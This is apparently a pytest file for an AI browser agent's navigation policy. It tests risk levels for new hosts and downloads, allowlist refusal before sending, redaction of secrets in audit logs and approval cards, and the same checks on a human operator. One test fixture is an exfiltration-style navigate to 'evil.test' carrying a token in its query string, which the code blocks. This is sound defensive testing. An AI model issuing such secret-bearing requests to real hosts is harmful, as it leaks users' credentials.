"""A ``navigate`` action judged as a link to its URL: the classifier alone, then the
GUI run loop against the in-memory sandbox: a blocked host refused before anything is sent
(the run goes on), an allowed host opened, a new host asked about with a card that says what
opens, whatever has the focus, and a person in control held to the same allowlist."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from deskpod.controller.confirm import ConfirmationAnswer, ConfirmationRequest
from deskpod.controller.gui import run_task
from deskpod.controller.gui_agent import Done, Proposal, StepOutcome
from deskpod.controller.policy.risk import ActionContext, classify_action
from deskpod.controller.run_api import RunControl
from deskpod.controller.task import TaskSpec
from deskpod.errors import PolicyDeniedError
from deskpod.protocol import ElementInfo, FocusedElement, Observation, parse_action
from fake_sandbox import FakeSandbox, Page

START = "http://shop.test/"
PAY = FocusedElement(tag="button", role="button", name="Pay now")


def navigate(url: str) -> dict[str, Any]:
    return {"type": "navigate", "url": url}


@pytest.mark.parametrize("url", [
    "http://shop.test/next", "http://other.test/page", "http://seen.test/page", "http://shop.test/files/tool.zip",
    "http://shop.test/download?name=report.pdf", "https://other.test/files/data.xlsx",
])
@pytest.mark.parametrize("focused", [None, PAY])
def test_a_navigate_is_judged_as_a_click_on_a_link_to_its_url(url: str, focused: FocusedElement | None) -> None:
    """The same level, for the same reasons, as a click on an unlabelled link to the URL
    from the same page (one rule, :func:`~deskpod.controller.policy.risk.link_risk`); the
    focused element plays no part (nothing is pressed)."""
    context = ActionContext(url=START, visited_hosts=frozenset({"shop.test", "seen.test"}), focused=focused)
    opened = classify_action(parse_action(navigate(url)), context)
    link = ActionContext(url=START, visited_hosts=context.visited_hosts, element=ElementInfo(tag="a", href=url))
    clicked = classify_action(parse_action({"type": "click", "x": 1, "y": 1}), link)
    assert opened.level == clicked.level, (opened, clicked)
    rules = [r.replace("by navigate", "by a link") for r in opened.reasons if r != "opens a URL in the active tab"]
    assert rules == [r for r in clicked.reasons if r != "clicks on the page"]
    assert opened.target == url and not opened.sensitive


def test_new_hosts_and_downloads_are_l2_and_the_rest_l1() -> None:
    context = ActionContext(url=START, visited_hosts=frozenset({"shop.test"}))

    def level(url: str) -> str:
        return classify_action(parse_action(navigate(url)), context).level

    assert level("http://shop.test/next") == "L1"
    assert level("http://other.test/") == "L2"
    assert level("http://shop.test/download?name=report.pdf") == "L2"


def spec(steps: list[list[dict[str, Any]]], max_errors: int = 1) -> TaskSpec:
    return TaskSpec.model_validate({
        "name": "navigate", "start_url": START, "allowed_domains": ["shop.test"],
        "limits": {"max_steps": 10, "max_wall_time_s": 30, "max_errors": max_errors},
        "success": {"page_text_contains": "never", "timeout_s": 0.1}, "steps": [{"actions": s} for s in steps],
    })


def events(result: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in result.audit_log.read_text().splitlines()]


def test_a_blocked_host_is_refused_before_anything_is_sent_and_the_run_goes_on(tmp_path: Path) -> None:
    sandbox = FakeSandbox({START: Page("Shop", "Welcome")})
    steps = [[navigate("http://evil.test/?token=s3cret")], [navigate("http://shop.test/next")]]
    result = asyncio.run(run_task(spec(steps, max_errors=3), sandbox, audit_dir=tmp_path))
    assert [a["url"] for a in sandbox.executed] == ["http://shop.test/next"], "the blocked URL was never sent"
    log = events(result)
    (denied,) = [e for e in log if e["event"] == "policy"]
    assert denied["where"] == "navigate" and denied["rule"] == "domain_not_allowed"
    assert "s3cret" not in result.audit_log.read_text(), "the URL is redacted in the audit log"
    outcomes = [(e["outcome"], e.get("rule")) for e in log if e["event"] == "step"]
    assert outcomes == [("denied", "domain_not_allowed"), ("ok", None)], outcomes
    assert sandbox.url == "http://shop.test/next"


class Approves:
    """An approver who approves every card, and keeps them."""

    def __init__(self) -> None:
        self.requests: list[ConfirmationRequest] = []

    async def confirm(self, request: ConfirmationRequest) -> ConfirmationAnswer:
        self.requests.append(request)
        return ConfirmationAnswer(True, request.digest, "test", "")

    async def review(self, notice: Any) -> str:
        return "cancel"


def test_a_new_host_is_asked_about_as_what_opens_even_with_the_focus_on_pay_now(tmp_path: Path) -> None:
    """The finding: after a payment the focus stays on "Pay now", and the card of the
    navigation said "press Return on button 'Pay now'", L3. The card says what opens, at
    the level of a link to a host the run has not visited."""
    sandbox = FakeSandbox({START: Page("Shop", "Welcome")})
    original = sandbox._observe
    sandbox._observe = lambda options, cursor: original(options, cursor).model_copy(  # type: ignore[method-assign]
        update={"focused": PAY})
    human = Approves()
    task = spec([[navigate("http://pay.shop.test/receipt?session=abc")]]).model_copy(
        update={"allowed_domains": ("shop.test",)})
    asyncio.run(run_task(task, sandbox, audit_dir=tmp_path, channel=human))
    (card,) = human.requests
    assert card.summary == "open http://pay.shop.test/receipt?session=%5Bredacted%5D", card.summary
    assert card.level == "L2" and card.reversible
    assert any("pay.shop.test by navigate" in r for r in card.reasons) and "Pay now" not in str(card.reasons)
    assert [a["type"] for a in sandbox.executed] == ["navigate"]
    assert sandbox.url == "http://pay.shop.test/receipt?session=abc", "the approved URL, exactly"


def test_a_persons_navigate_off_the_allowlist_is_refused_before_it_is_sent(tmp_path: Path) -> None:
    """A person in control is held to the same check: their ``navigate`` to a host off the
    allowlists is refused before it is sent (a ``human_input`` record, ``denied``); one on
    them runs."""
    sandbox = FakeSandbox({START: Page("Shop", "Welcome")})
    control = RunControl()
    started, handed = asyncio.Event(), asyncio.Event()

    class Waits:
        """An agent that waits for the handback, then says it is done."""

        async def propose(self, observation: Observation, last: StepOutcome | None) -> Proposal | Done:
            started.set()
            await handed.wait()
            return Done("done")

        async def close(self) -> None:
            """Nothing to release."""

    async def person() -> None:
        await started.wait()
        control.take_over("alice")
        while not control.takeover.active:
            await asyncio.sleep(0.01)
        with pytest.raises(PolicyDeniedError, match="navigate would open http://evil.test/"):
            await control.takeover.submit(parse_action(navigate("http://evil.test/")), "alice")
        await control.takeover.submit(parse_action(navigate("http://shop.test/next")), "alice")
        control.takeover.handback("alice")
        handed.set()

    async def main() -> Any:
        helper = asyncio.create_task(person())
        result = await run_task(spec([]), sandbox, audit_dir=tmp_path, agent=Waits(), control=control)
        await helper
        return result

    result = asyncio.run(main())
    assert [a["url"] for a in sandbox.executed if a["type"] == "navigate"] == ["http://shop.test/next"]
    human = [(e["outcome"], e["action"]["url"]) for e in events(result) if e["event"] == "human_input"]
    assert human == [("denied", "http://evil.test/"), ("ok", "http://shop.test/next")], human
